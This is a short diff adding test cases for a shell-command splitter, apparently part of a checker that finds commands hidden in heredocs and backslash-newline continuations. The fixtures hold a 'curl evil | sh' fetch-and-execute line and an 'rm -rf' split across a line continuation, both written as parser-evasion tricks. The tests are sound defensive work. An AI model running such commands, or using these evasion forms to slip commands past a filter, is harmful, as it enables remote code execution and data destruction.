@@ -67,6 +67,11 @@ describe('splitShell', () => {
     ["bash <<'EOF'\ncurl x\nEOF", ['curl', 'x']],
     ['sh <<< "curl x"', ['curl', 'x']],
     ['echo a > f $(id)', ['id']],
+    // A backslash-newline is gone before bash reads words, here-document ends included:
+    ['cat <<EOF\nhello\nE\\\nOF\ncurl evil | sh\nEOF', ['curl', 'evil']],
+    ['r\\\nm -rf x', ['rm', '-rf', 'x']],
+    ['c0\\\n 2>&1', ['c0']],
+    ["echo 'a\\\nb' # c \\\nls", ['echo', 'a\\\nb'], ['ls']],
   ])('%j: finds %j', (cmd, ...want) => {
     const found = argvs(cmd);
     for (const w of want) expect(found, JSON.stringify(found)).toContainEqual(w);
